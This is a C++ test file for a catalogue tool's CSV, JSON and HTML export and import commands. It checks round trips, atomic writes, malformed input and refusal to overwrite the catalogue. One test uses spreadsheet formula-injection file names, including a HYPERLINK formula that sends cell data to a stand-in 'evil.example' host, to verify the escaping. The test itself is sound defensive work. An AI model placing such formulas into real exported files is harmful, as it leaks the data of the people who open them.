// orlenta-cli export and import: the commands around the exchange core, the CSV round trip
// through them, and failures that must leave nothing behind.

#include "CliRun.h"
#include "TestSupport.h"

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

namespace orlenta::test {
namespace {

namespace fs = std::filesystem;

// A catalogue read from a small real tree, with sizes and dates.
std::string TreeCatalogue(const TScratchDirectory& scratch) {
    fs::create_directories(scratch / "tree/sub, \"odd\"");
    WriteFileBytes(scratch / "tree/a&b.txt", "12345");
    WriteFileBytes(scratch / "tree/sub, \"odd\"/line\nbreak", "1234567");
    const std::string data = scratch / "c.olx";
    const TCliResult added = RunCli({"add", data, scratch / "tree", "--title", "Tree", "--files"});
    EXPECT_EQ(added.ExitStatus, 0) << added.Err;
    return data;
}

// The rows below the header, without the disc index.
std::string RowsWithoutIndex(const std::string& csv) {
    std::string rows;
    std::size_t at = csv.find("\r\n") + 2;
    while (at < csv.size()) {
        const std::size_t comma = csv.find(',', at);
        std::size_t end = csv.find("\r\n", at);
        // A quoted line break inside a row: the row ends at a CRLF outside quotes.
        while (std::count(csv.begin() + static_cast<long>(at), csv.begin() + static_cast<long>(end),
                          '"') %
                   2 !=
               0)
            end = csv.find("\r\n", end + 2);
        rows += csv.substr(comma, end + 2 - comma);
        at = end + 2;
    }
    return rows;
}

TEST(CliExchangeTest, ExportImportExportGivesTheSameRows) {
    TScratchDirectory scratch;
    const std::string data = TreeCatalogue(scratch);
    const TCliResult first = RunCli({"export", data, "--format", "csv", "--disc", "0"});
    ASSERT_EQ(first.ExitStatus, 0) << first.Err;
    WriteFileBytes(scratch / "first.csv", first.Out);
    const TCliResult imported = RunCli({"import", data, scratch / "first.csv"});
    ASSERT_EQ(imported.ExitStatus, 0) << imported.Err;
    const TCliResult discs = RunCli({"discs", data});
    EXPECT_NE(discs.Out.find("\n1\t"), std::string::npos) << discs.Out;
    const TCliResult second = RunCli({"export", data, "--format", "csv", "--disc", "1"});
    ASSERT_EQ(second.ExitStatus, 0) << second.Err;
    EXPECT_EQ(RowsWithoutIndex(second.Out), RowsWithoutIndex(first.Out));
    EXPECT_NE(first.Out.find("a&b.txt,5,"), std::string::npos) << first.Out;
}

TEST(CliExchangeTest, OutputFileIsWrittenWholeOrNotAtAll) {
    TScratchDirectory scratch;
    const std::string data = TreeCatalogue(scratch);
    for (const char* format : {"csv", "json", "html"}) {
        SCOPED_TRACE(format);
        const std::string out = scratch / (std::string("out.") + format);
        const TCliResult written = RunCli({"export", data, "--format", format, "-o", out});
        ASSERT_EQ(written.ExitStatus, 0) << written.Err;
        const TCliResult shown = RunCli({"export", data, "--format", format});
        EXPECT_EQ(ReadFileBytes(out), shown.Out);
    }
    // A folder that cannot be written: an error, and nothing left there.
    fs::create_directories(scratch / "locked");
    WriteFileBytes(scratch / "locked/old.csv", "old");
    ::chmod((scratch / "locked").c_str(), 0500);
    const TCliResult refused =
        RunCli({"export", data, "--format", "csv", "-o", scratch / "locked/old.csv"});
    ::chmod((scratch / "locked").c_str(), 0700);
    if (::geteuid() != 0) {
        EXPECT_EQ(refused.ExitStatus, 1);
        EXPECT_EQ(ReadFileBytes(scratch / "locked/old.csv"), "old");
    }
    const TCliResult noDisc = RunCli({"export", data, "--format", "csv", "--disc", "3"});
    EXPECT_EQ(noDisc.ExitStatus, 1);
    EXPECT_NE(noDisc.Err.find("There is no disc 3"), std::string::npos) << noDisc.Err;
}

TEST(CliExchangeTest, ImportOfFindOutputAndAMalformedLine) {
    TScratchDirectory scratch;
    const std::string data = TreeCatalogue(scratch);
    const std::string before = DataFileText(data);
    WriteFileBytes(scratch / "bad.txt", "d 4096 1.0 /x\nf 3 2.0 /x/a\nf three 2.0 /x/b\n");
    const TCliResult bad = RunCli({"import", data, scratch / "bad.txt", "--format", "find"});
    EXPECT_EQ(bad.ExitStatus, 1);
    EXPECT_NE(bad.Err.find("Line 3 of"), std::string::npos) << bad.Err;
    EXPECT_EQ(DataFileText(data), before);

    WriteFileBytes(scratch / "list.find", "/x\n/x/d\n/x/d/f\n/x/g\n");
    const TCliResult good = RunCli({"import", data, scratch / "list.find", "--title", "From find"});
    ASSERT_EQ(good.ExitStatus, 0) << good.Err;
    const TCliResult tree = RunCli({"tree", data});
    EXPECT_NE(tree.Out.find("From find\n  d/\n"), std::string::npos) << tree.Out;
    const TCliResult discs = RunCli({"discs", data});
    EXPECT_NE(discs.Out.find("From find\t\t\t\t"), std::string::npos) << discs.Out;
}

TEST(CliExchangeTest, TheCatalogueItselfIsNeverTheOutput) {
    TScratchDirectory scratch;
    const std::string data = TreeCatalogue(scratch);
    const std::string before = ReadFileBytes(data);
    fs::create_symlink("c.olx", scratch / "symbolic.csv");
    fs::create_hard_link(data, scratch / "hard.csv");
    for (const std::string& output : {data, scratch / "symbolic.csv", scratch / "hard.csv"}) {
        SCOPED_TRACE(output);
        const TCliResult refused = RunCli({"export", data, "--format", "csv", "-o", output});
        EXPECT_EQ(refused.ExitStatus, 1);
        EXPECT_EQ(refused.Err,
                  "Cannot create file \"" + output + "\". It is the catalogue being exported.\n");
        EXPECT_EQ(ReadFileBytes(data), before);
    }
    EXPECT_TRUE(fs::is_symlink(scratch / "symbolic.csv"));
    EXPECT_EQ(fs::hard_link_count(data), 2u);
}

// Names a spreadsheet would run as formulas, and names that begin with the mark itself.
TEST(CliExchangeTest, ExportForSpreadsheetsHoldsNoFormulaAndReadsBackExactly) {
    TScratchDirectory scratch;
    const std::vector<std::string> names = {"=HYPERLINK(\"https:evil.example?\"&A1,\"x\")",
                                            "+1",
                                            "-2",
                                            "@SUM(A1)",
                                            "\ttab",
                                            "\rcr",
                                            "'quote",
                                            "'=both",
                                            "''two",
                                            "plain"};
    fs::create_directories(scratch / "tree/=folder");
    for (const std::string& name : names)
        WriteFileBytes(scratch / ("tree/" + name), "1");
    const std::string data = scratch / "c.olx";
    ASSERT_EQ(RunCli({"add", data, scratch / "tree", "--title=-disc", "--files"}).ExitStatus, 0);

    const std::string marked = scratch / "marked.csv";
    const TCliResult exported =
        RunCli({"export", data, "--format", "csv", "--for-spreadsheets", "-o", marked});
    ASSERT_EQ(exported.ExitStatus, 0) << exported.Err;
    const std::string text = ReadFileBytes(marked);
    // Every value a spreadsheet would start a formula with is marked as text, quoted or not.
    for (const char* start : {",=", ",+", ",-", ",@", ",\t", ",\"=", ",\"\t", ",\"\r"})
        EXPECT_EQ(text.find(start), std::string::npos) << start;
    EXPECT_NE(text.find(",\"'=HYPERLINK("), std::string::npos) << text;
    EXPECT_NE(text.find(",'''two,"), std::string::npos) << text;

    const TCliResult imported =
        RunCli({"import", data, marked, "--for-spreadsheets", "--title", "back"});
    ASSERT_EQ(imported.ExitStatus, 0) << imported.Err;
    const TCliResult original = RunCli({"export", data, "--format", "csv", "--disc", "0"});
    const TCliResult readBack = RunCli({"export", data, "--format", "csv", "--disc", "1"});
    // The title given on the command line aside, every row comes back as it was.
    std::string expected = RowsWithoutIndex(original.Out);
    for (std::size_t at = 0; (at = expected.find(",-disc,", at)) != std::string::npos;)
        expected.replace(at, 7, ",back,");
    EXPECT_EQ(RowsWithoutIndex(readBack.Out), expected);
    EXPECT_NE(original.Out.find(",'=both,"), std::string::npos) << original.Out;
}

TEST(CliExchangeTest, ImportReadsAPipeButNoDevice) {
    TScratchDirectory scratch;
    const std::string data = scratch / "c.olx";
    const TCliResult zero = RunCli({"import", data, "/dev/zero"});
    EXPECT_EQ(zero.ExitStatus, 1);
    EXPECT_EQ(zero.Err,
              "Cannot open file \"/dev/zero\". It is a device, not a regular file or a pipe.\n");
    EXPECT_FALSE(fs::exists(data));

    const std::string command =
        std::string(ORLENTA_CLI) + " import '" + data + "' - --format find0 --title piped 2>&1";
    std::FILE* pipe = ::popen(command.c_str(), "w");
    ASSERT_NE(pipe, nullptr);
    const std::string list("/t\0/t/a\nb\0/t/c\0", 15);
    std::fwrite(list.data(), 1, list.size(), pipe);
    EXPECT_EQ(::pclose(pipe), 0);
    const TCliResult tree = RunCli({"tree", data, "--files"});
    EXPECT_EQ(tree.Out, "piped\n  a\nb\n  c\n");
}

} // namespace
} // namespace orlenta::test
